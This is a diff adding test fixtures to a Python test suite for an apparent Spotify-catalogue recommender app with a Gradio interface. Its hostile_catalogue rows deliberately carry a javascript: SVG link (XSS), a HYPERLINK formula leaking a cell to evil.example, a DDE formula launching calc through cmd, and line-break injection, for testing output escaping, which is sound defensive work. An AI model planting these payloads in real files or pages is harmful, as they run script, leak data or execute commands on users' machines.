@@ -28,6 +28,25 @@ SPOTIFY_ROWS = [
 ]
 # fmt: on
 
+SVG_GENRE = '<svg width="400" height="400"><a href="javascript:alert(document.domain)"><rect width="400" height="400"/></a></svg>'
+"""A genre that, unescaped, draws a box that runs script when clicked."""
+MATH_TITLE = r"$$\color{red}{\Huge X}$$"
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+FORMULA_ARTIST = "@SUM(1+1)*cmd|' /C calc'!A0"
+LINK_TITLE = "Visit https://evil.example/path or www.evil.example now"
+BROKEN_TITLE = "Line one\n2. injected item\r\n- another"
+
+# fmt: off
+HOSTILE_ROWS = [
+    ["h1", FORMULA_TITLE, FORMULA_ARTIST, "70", "2013-05-01", SVG_GENRE, "0.80", "0.90", "-4.0", "0.05", "0.02", "0.1", "0.1", "0.8", "128.0", "200000"],
+    ["h2", MATH_TITLE, "Math Crew", "60", "2014", SVG_GENRE, "0.30", "0.20", "-14.0", "0.04", "0.90", "0.0", "0.1", "0.2", "70.0", "240000"],
+    ["h3", LINK_TITLE, "contact me at a@b.co", "50", "2016", "pop", "0.70", "0.75", "-5.0", "0.05", "0.20", "0.0", "0.2", "0.9", "120.0", "210000"],
+    ["h4", BROKEN_TITLE, "-Dash Artist", "40", "2018", "+plus", "0.60", "0.55", "-7.0", "0.30", "0.10", "0.0", "0.3", "0.5", "95.0", "190000"],
+    ["h5", "Quiet Rain", "Lena Soft", "35", "2012", SVG_GENRE, "0.35", "0.15", "-16.0", "0.04", "0.92", "0.0", "0.11", "0.12", "72.0", "245000"],
+    ["h6", "Gym Rush", "Power Crew", "75", "2019", "edm", "0.82", "0.95", "-3.1", "0.05", "0.01", "0.6", "0.1", "0.7", "150.2", "180000"],
+]
+# fmt: on
+
 
 def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
     """Write a CSV (gzip-compressed when the name ends in .gz)."""
@@ -42,6 +61,11 @@ def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
 def spotify_catalogue(tmp_path: Path, name: str = "spotify.csv") -> Path:
     """A small Spotify-export catalogue with one repeated id and one repeated title+artist."""
     return write_csv(tmp_path / name, SPOTIFY_HEADER, SPOTIFY_ROWS)
+
+
+def hostile_catalogue(tmp_path: Path, name: str = "hostile.csv") -> Path:
+    """A Spotify-export catalogue whose titles, artists and genres carry markup, formulas, links and line breaks."""
+    return write_csv(tmp_path / name, SPOTIFY_HEADER, HOSTILE_ROWS)
 
 
 def test_settings(tmp_path: Path, catalogue: Path, **changes: object) -> Settings:
@@ -81,3 +105,37 @@ def listed_songs(reply: str, engine) -> list:
             assert len(found) == 1, (title, artist)
             rows.append(found.iloc[0])
     return rows
+
+
+def queue_call(url: str, api_name: str, data: list) -> dict:
+    """Call a named endpoint the way the browser does (queue/join, then the queue/data stream), with the JSON body
+    ASCII-escaped so that it can carry lone surrogates; the ``process_completed`` message, or an AssertionError
+    naming what came instead (an ``unexpected_error``, or a stream that ended without an answer)."""
+    import json
+    import uuid
+
+    import httpx
+
+    base = url.rstrip("/")
+    config = httpx.get(f"{base}/config", timeout=30).json()
+    dependency = next(d for d in config["dependencies"] if d.get("api_name") == api_name)
+    session = uuid.uuid4().hex[:12]
+    padded = [*data, *[None] * (len(dependency["inputs"]) - len(data))]  # State inputs, as gradio_client sends them
+    body = {"data": padded, "fn_index": dependency["id"], "session_hash": session, "event_data": None}
+    joined = httpx.post(
+        f"{base}/gradio_api/queue/join",
+        content=json.dumps({**body, "trigger_id": None}, ensure_ascii=True),
+        headers={"content-type": "application/json"},
+        timeout=30,
+    )
+    assert joined.status_code == 200, joined.text
+    seen = []
+    with httpx.stream("GET", f"{base}/gradio_api/queue/data", params={"session_hash": session}, timeout=120) as stream:
+        for line in stream.iter_lines():
+            if line.startswith("data:"):
+                message = json.loads(line[5:])
+                seen.append(message.get("msg"))
+                assert message.get("msg") != "unexpected_error", message
+                if message.get("msg") == "process_completed":
+                    return message
+    raise AssertionError(f"the stream ended without an answer: {seen}")
